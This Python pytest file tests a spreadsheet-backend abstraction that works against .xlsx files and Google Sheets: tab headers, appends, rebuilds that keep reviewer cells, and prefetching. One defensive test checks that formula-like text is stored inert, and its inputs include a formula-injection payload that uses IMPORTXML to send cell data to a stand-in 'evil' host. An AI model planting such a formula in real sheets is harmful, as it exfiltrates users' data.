"""One contract, every backend: .xlsx, Google Sheets via gspread on the local server, real Google."""

from __future__ import annotations

import pandas as pd
import pytest

from sheets_bridge.errors import SchemaError
from sheets_bridge.workbook import TAB_NAMES, Workbook, header_for


def name(wb: Workbook, base: str) -> str:
    """Tab names are unique per run on a real shared sheet."""
    return f"{base}_{wb.tab_suffix}" if hasattr(wb, "tab_suffix") else base


HEADER = ["id", "text", "n"]


def test_new_tab_has_its_header_and_no_rows(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    assert workbook.ensure_tab(tab, HEADER) == HEADER
    assert tab in workbook.tabs()
    frame = workbook.read(tab)
    assert list(frame.columns) == HEADER
    assert len(frame) == 0


def test_ensure_tab_twice_changes_nothing(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    workbook.append(tab, [["1", "a", 1]])
    workbook.ensure_tab(tab, HEADER)
    assert workbook.read(tab)["id"].tolist() == ["1"]
    assert workbook.tabs().count(tab) == 1


@pytest.mark.parametrize("rows", [
    [["1", "hello", 5], ["2", "мир", 7]],
    [{"id": "1", "text": "hello", "n": 5}, {"id": "2", "text": "мир", "n": 7}],
    pd.DataFrame({"id": ["1", "2"], "text": ["hello", "мир"], "n": [5, 7]}),
], ids=["lists", "dicts", "dataframe"])
def test_append_accepts_lists_dicts_and_frames(workbook: Workbook, rows: object) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    assert workbook.append(tab, rows) == 2
    frame = workbook.read(tab)
    assert frame.to_dict("records") == [{"id": "1", "text": "hello", "n": "5"},
                                        {"id": "2", "text": "мир", "n": "7"}]


def test_appends_accumulate_in_order(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    for i in range(3):
        workbook.append(tab, [[str(i), f"t{i}", i]])
    assert workbook.read(tab)["id"].tolist() == ["0", "1", "2"]


def test_replace_shrinks_and_grows(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    workbook.append(tab, [[str(i), "x", i] for i in range(5)])
    workbook.replace(tab, [["a", "only", 1]])
    assert workbook.read(tab)["id"].tolist() == ["a"]
    workbook.replace(tab, [[str(i), "y", i] for i in range(7)])
    assert workbook.read(tab)["id"].tolist() == [str(i) for i in range(7)]
    workbook.replace(tab, [])
    assert len(workbook.read(tab)) == 0


@pytest.mark.parametrize("text", ["=1+1", "+79171234567", "-5", "@SUM(A1)", "\tx", "\rx", "\nx", "'=quoted",
                                  '=IMPORTXML("http://evil/?"&A1,"//a")'])
def test_formula_like_text_is_stored_inert_and_reads_back_exactly(workbook: Workbook, text: str) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    workbook.append(tab, [["1", text, 1]])
    workbook.replace(name(workbook, "copy"), [["1", text, 1]], header=HEADER)
    assert workbook.read(tab)["text"].tolist() == [text]
    assert workbook.read(name(workbook, "copy"))["text"].tolist() == [text]


def test_known_tabs_get_spec_header_and_types(workbook: Workbook) -> None:
    if hasattr(workbook, "tab_suffix"):
        pytest.skip("known tab names are shared on a real sheet")
    workbook.append("kpi", [{"period": "2025-01-06", "manager": "ALL", "conversations": 3,
                             "median_first_response_s": 61.5, "pct_unanswered": 0.25}])
    frame = workbook.read("kpi")
    assert list(frame.columns) == header_for("kpi")
    assert frame.loc[0, "conversations"] == 3
    assert frame.loc[0, "median_first_response_s"] == pytest.approx(61.5)
    assert pd.isna(frame.loc[0, "avg_score"])


def test_init_creates_every_spec_tab_once(workbook: Workbook) -> None:
    if hasattr(workbook, "tab_suffix"):
        pytest.skip("known tab names are shared on a real sheet")
    assert workbook.init_tabs() == TAB_NAMES
    assert workbook.init_tabs() == []
    for tab in TAB_NAMES:
        assert list(workbook.read(tab).columns) == header_for(tab)


def test_header_prefix_is_migrated_by_adding_columns_on_the_right(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, ["id", "text"])
    workbook.append(tab, [["1", "a"]])
    workbook.ensure_tab(tab, HEADER)
    frame = workbook.read(tab)
    assert list(frame.columns) == HEADER
    assert frame.to_dict("records") == [{"id": "1", "text": "a", "n": ""}]


def test_foreign_header_is_a_clear_error(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, ["date", "amount"])
    with pytest.raises(SchemaError, match="expected"):
        workbook.ensure_tab(tab, HEADER)


def test_unknown_columns_are_refused(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    with pytest.raises(SchemaError, match="no column"):
        workbook.append(tab, [{"id": "1", "phone": "x"}])


def test_text_longer_than_a_cell_is_truncated_visibly(workbook: Workbook) -> None:
    tab = name(workbook, "things")
    workbook.ensure_tab(tab, HEADER)
    workbook.append(tab, [["1", "я" * (workbook.max_cell_chars + 10), 1]])
    text = workbook.read(tab).loc[0, "text"]
    assert len(text) == workbook.max_cell_chars
    assert text.endswith("[truncated]")


def test_rebuild_keeps_owner_cells_and_columns_by_id(workbook: Workbook) -> None:
    """SPEC §3: a rebuilt tab keeps the owner's verdicts, notes and added columns, matched by the row's id."""
    if hasattr(workbook, "tab_suffix"):
        pytest.skip("rebuild works on SPEC tabs, which a shared real sheet cannot hold per run")
    header = header_for("audit")
    rows = [dict.fromkeys(header, "") | {"week": "2025-01-06", "conversation_id": f"c{i}", "reason": "control"}
            for i in range(3)]
    workbook.rebuild("audit", rows)
    frame = workbook.read("audit")
    frame.loc[frame["conversation_id"] == "c1", "reviewer_verdict"] = "wrong: booked"
    frame.loc[frame["conversation_id"] == "c2", "reviewer_note"] = "call her"
    frame["owner_comment"] = ["", "x", ""]
    workbook.replace("audit", frame, header=[*header, "owner_comment"])
    # the next run selects c1 and c3 (c2 went away): c1 keeps its verdict and comment, c2 stays as reviewed
    again = [dict.fromkeys(header, "") | {"week": "2025-01-06", "conversation_id": c, "reason": "low_confidence"}
             for c in ("c3", "c1")]
    workbook.rebuild("audit", again)
    got = workbook.read("audit").set_index("conversation_id")
    assert list(got.index) == ["c3", "c1", "c2"]
    assert got.loc["c1", "reviewer_verdict"] == "wrong: booked" and got.loc["c1", "owner_comment"] == "x"
    assert got.loc["c1", "reason"] == "low_confidence"
    assert got.loc["c2", "reviewer_note"] == "call her"
    assert got.loc["c3", "reviewer_verdict"] == ""


def test_rebuild_archives_owner_cells_of_rows_that_are_gone(workbook: Workbook) -> None:
    if hasattr(workbook, "tab_suffix"):
        pytest.skip("rebuild works on SPEC tabs, which a shared real sheet cannot hold per run")
    header = header_for("missed_leads")
    workbook.rebuild("missed_leads", [dict.fromkeys(header, "") | {"conversation_id": c} for c in ("a", "b")])
    frame = workbook.read("missed_leads")
    frame["called_back"] = ["yes", ""]
    workbook.replace("missed_leads", frame, header=[*header, "called_back"])
    workbook.rebuild("missed_leads", [dict.fromkeys(header, "") | {"conversation_id": "b"}],
                     now="2025-01-01T00:00:00+00:00")
    assert workbook.read("missed_leads")["conversation_id"].tolist() == ["b"]
    archived = workbook.read("owner_archive")
    assert archived[["tab", "row_id", "column", "value"]].to_dict("records") == [
        {"tab": "missed_leads", "row_id": "a", "column": "called_back", "value": "yes"}]


@pytest.mark.parametrize("ids", [
    ["e1", "e2", "e1"],  # a repeat stays visible: the flusher mends it
    ["", "x&y <z>", "'=1+1", "a\rb", "_x000D_ literal", "12", "1.5", "Ёлка 🎄"],
])
def test_read_column_gives_what_read_gives(workbook: Workbook, ids: list[str]) -> None:
    workbook.append("events", [{"event_id": i, "channel": "web", "session_id": "s"} for i in ids])
    assert workbook.read_column("events", "event_id") == workbook.read("events")["event_id"].astype(str).tolist()
    with workbook.batch():  # rows appended in a batch are seen before the save
        workbook.append("events", [{"event_id": "late", "channel": "web", "session_id": "s"}])
        assert workbook.read_column("events", "event_id")[-1] == "late"
    assert workbook.read_column("events", "event_id") == [*ids, "late"]
    assert workbook.read_column("events", "no_such_column") == workbook.read_column("no_such_tab", "x") == []


@pytest.mark.parametrize(("write", "ids"), [
    (None, ["1", "2"]),
    (lambda wb, tab: wb.append(tab, [["3", "after", 3]]), ["1", "2", "3"]),
    (lambda wb, tab: wb.replace(tab, [["9", "new", 9]]), ["9"]),
], ids=["no write", "append", "replace"])
def test_prefetch_changes_no_read_and_a_write_after_it_is_seen(workbook: Workbook, write: object,
                                                              ids: list[str]) -> None:
    things, others = name(workbook, "things"), name(workbook, "others")
    for tab in (things, others):
        workbook.ensure_tab(tab, HEADER)
        workbook.append(tab, [["1", "мир", 1], ["2", "=1+1", 2]])
    as_read = workbook.read(others).to_dict("records")
    workbook.prefetch([things, others, name(workbook, "missing")])
    if write is not None:
        write(workbook, things)  # type: ignore[operator]
    assert workbook.read(things)["id"].tolist() == ids
    assert workbook.read(others).to_dict("records") == as_read
    assert workbook.read(others).to_dict("records") == as_read  # a second read too
